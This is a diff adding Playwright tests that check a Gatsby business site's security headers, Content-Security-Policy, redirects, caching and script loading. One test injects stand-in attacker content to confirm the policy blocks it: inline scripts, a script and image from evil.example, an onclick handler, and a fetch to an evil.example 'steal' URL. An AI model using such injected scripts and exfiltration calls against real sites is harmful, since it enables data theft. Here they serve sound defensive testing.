@@ -1,0 +1,179 @@
+import { readFileSync } from "node:fs";
+import path from "node:path";
+import { expect, type Page, test } from "@playwright/test";
+import { collectFaults, hydrated } from "./page-faults";
+import { NOT_FOUND, ROUTES } from "./routes";
+
+const MAP_ORIGIN = "https://www.google.com";
+
+/** Nothing here may reach the network; a blocked address never gets as far as this. */
+async function stubMap(page: Page): Promise<void> {
+  await page.route(`${MAP_ORIGIN}/**`, (route) => route.fulfill({ contentType: "text/html", body: "<title>Map</title>" }));
+}
+
+test.describe("the security policy", () => {
+  for (const { path: address } of [...ROUTES, NOT_FOUND]) {
+    test(`lets ${address} work`, async ({ page }) => {
+      const faults = collectFaults(page);
+      const response = await page.goto(address, { waitUntil: "networkidle" });
+      await hydrated(page);
+      expect(faults.filter((fault) => fault.startsWith("policy"))).toEqual([]);
+      const policy =
+        response?.headers()["content-security-policy"] ??
+        (await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content"));
+      expect(policy).toContain("default-src 'none'");
+      expect(policy).not.toMatch(/(default-src|script-src|style-src) [^;]*'unsafe-/);
+      expect(policy?.includes("frame-src")).toBe(address === "/contact");
+    });
+  }
+
+  test("holds while a visitor moves through menu, pages and map", async ({ page }) => {
+    await stubMap(page);
+    const faults = collectFaults(page);
+    await page.setViewportSize({ width: 1440, height: 900 });
+    await page.goto("/");
+    await hydrated(page);
+    const menu = page.getByRole("banner");
+    await menu.getByRole("link", { name: "Services", exact: true }).click();
+    await expect(page).toHaveURL(/\/services$/);
+    await page.getByRole("main").getByRole("link", { name: /HVAC/ }).first().click();
+    await expect(page).toHaveURL(/\/services\/hvac-services$/);
+    await menu.getByRole("link", { name: "Blog", exact: true }).click();
+    await expect(page).toHaveURL(/\/blog$/);
+    await menu.getByRole("link", { name: "Contact Us", exact: true }).click();
+    await expect(page).toHaveURL(/\/contact$/);
+    await hydrated(page);
+    await page.getByRole("button", { name: /map/i }).click();
+    await expect(page.frameLocator("iframe").locator("title")).toHaveText("Map");
+    await page.goBack();
+    await expect(page).toHaveURL(/\/blog$/);
+    expect(faults).toEqual([]);
+  });
+
+  test("a page other than Contact cannot frame the map", async ({ page }) => {
+    await stubMap(page);
+    const faults = collectFaults(page);
+    await page.goto("/about");
+    await page.evaluate((origin) => {
+      document.body.append(Object.assign(document.createElement("iframe"), { src: `${origin}/maps` }));
+    }, MAP_ORIGIN);
+    await expect.poll(() => faults.join()).toMatch(/policy: .*www\.google\.com.*frame-src/);
+  });
+
+  for (const address of ["/", NOT_FOUND.path]) {
+    test(`blocks what an attacker would add to ${address}`, async ({ page }) => {
+      const faults = collectFaults(page);
+      const foreign: string[] = [];
+      await page.route("https://evil.example/**", (route) => {
+        foreign.push(route.request().url());
+        return route.fulfill({ body: "" });
+      });
+      await page.goto(address);
+      const outcome = await page.evaluate(async () => {
+        const add = (name: string, attributes: object) => document.body.append(Object.assign(document.createElement(name), attributes));
+        add("script", { textContent: "document.documentElement.dataset.inline = 'ran'" });
+        add("script", { src: "https://evil.example/a.js" });
+        add("img", { src: "https://evil.example/a.png" });
+        add("style", { textContent: "h1 { visibility: hidden }" });
+        document.body.insertAdjacentHTML("beforeend", `<b onclick="document.documentElement.dataset.handler = 'ran'">x</b>`);
+        document.querySelector("b:last-child")?.dispatchEvent(new MouseEvent("click"));
+        const sent = await fetch("https://evil.example/steal").then(
+          () => "sent",
+          () => "blocked",
+        );
+        const { inline, handler } = document.documentElement.dataset;
+        return { inline, handler, sent, heading: getComputedStyle(document.querySelector("h1") ?? document.body).visibility };
+      });
+      expect(outcome).toEqual({ inline: undefined, handler: undefined, sent: "blocked", heading: "visible" });
+      expect(foreign).toEqual([]);
+      expect(faults.filter((fault) => fault.startsWith("policy")).length).toBeGreaterThanOrEqual(6);
+    });
+  }
+});
+
+test.describe("answers", () => {
+  test("every answer carries the general protections", async ({ request }) => {
+    for (const address of ["/", "/about", NOT_FOUND.path, "/page-data/app-data.json"]) {
+      const headers = (await request.get(address)).headers();
+      expect(headers["strict-transport-security"]).toMatch(/^max-age=\d{8,}; includeSubDomains; preload$/);
+      expect(headers["x-content-type-options"]).toBe("nosniff");
+      expect(headers["x-frame-options"]).toBe("DENY");
+      expect(headers["referrer-policy"]).toBe("strict-origin-when-cross-origin");
+      expect(headers["cross-origin-resource-policy"]).toBe("same-origin");
+      expect(headers["permissions-policy"]).toContain("geolocation=()");
+    }
+    expect((await request.get("/")).headers()["cross-origin-opener-policy"]).toBe("same-origin");
+  });
+
+  for (const { path: address } of ROUTES.filter(({ path }) => path !== "/")) {
+    test(`${address} answers at once; every other form leads there by one redirect`, async ({ request }) => {
+      expect((await request.get(address, { maxRedirects: 0 })).status()).toBe(200);
+      for (const form of [
+        `${address}/`,
+        `${address}/index.html`,
+        address.toUpperCase(),
+        address.replace(/\/\w/g, (start) => start.toUpperCase()),
+      ]) {
+        const response = await request.get(form, { maxRedirects: 0 });
+        expect([form, response.status(), response.headers().location]).toEqual([form, 301, address]);
+      }
+    });
+  }
+
+  test("/index.html leads home", async ({ request }) => {
+    const response = await request.get("/index.html", { maxRedirects: 0 });
+    expect([response.status(), response.headers().location]).toEqual([301, "/"]);
+  });
+
+  test("an unknown address is a 404, also when it looks like a known one", async ({ request }) => {
+    for (const address of ["/no-such-page", "/services/no-such-service", "/services/hvac-services/more", "/blog/9", "/app.js.map"]) {
+      expect([address, (await request.get(address)).status()]).toEqual([address, 404]);
+    }
+  });
+
+  test("a page is asked for anew, what its name identifies is kept, and page data lives a minute at most", async ({ request }) => {
+    const html = readFileSync(path.resolve(__dirname, "../public/index.html"), "utf8");
+    const [script = ""] = /\/app-[0-9a-f]+\.js/.exec(html) ?? [];
+    const [font = ""] = /\/static\/[^"]+\.woff2/.exec(html) ?? [];
+    const caching = async (address: string) => (await request.get(address)).headers()["cache-control"];
+    expect(await caching("/")).toBe("public, max-age=0, must-revalidate");
+    expect(await caching("/services/hvac-services")).toBe("public, max-age=0, must-revalidate");
+    expect(await caching(script)).toBe("public, max-age=31536000, immutable");
+    expect(await caching(font)).toBe("public, max-age=31536000, immutable");
+    const [, seconds] = /max-age=(\d+)$/.exec((await caching("/page-data/index/page-data.json")) ?? "") ?? [];
+    expect(Number(seconds)).toBeLessThanOrEqual(60);
+  });
+});
+
+test.describe("scripts", () => {
+  test("are asked for after the page is painted, not before", async ({ page }) => {
+    const scriptsBeforeLoad: string[] = [];
+    let loaded = false;
+    page.on("load", () => {
+      loaded = true;
+    });
+    page.on("request", (request) => {
+      if (request.resourceType() === "script" && !loaded) scriptsBeforeLoad.push(request.url());
+    });
+    await page.goto("/about");
+    await hydrated(page);
+    expect(scriptsBeforeLoad).toEqual([]);
+  });
+
+  test("start at the first touch, even before the page has loaded", async ({ page }) => {
+    // a picture that never arrives keeps the page from loading
+    await page.route("**/*.avif", () => {});
+    await page.goto("/about", { waitUntil: "commit" });
+    await page.evaluate(() => document.body.append(Object.assign(document.createElement("img"), { src: "/never.avif" })));
+    await page.locator("h1").dispatchEvent("pointerdown");
+    await hydrated(page);
+    expect(await page.evaluate(() => document.readyState)).not.toBe("complete");
+  });
+
+  test("Gatsby prefetches the code of a page that a link in view leads to", async ({ page }) => {
+    await page.setViewportSize({ width: 1440, height: 900 });
+    await page.goto("/about");
+    await hydrated(page);
+    await expect(page.locator('link[rel="prefetch"][href^="/component---src-pages-blog"]')).toBeAttached({ timeout: 15_000 });
+  });
+});
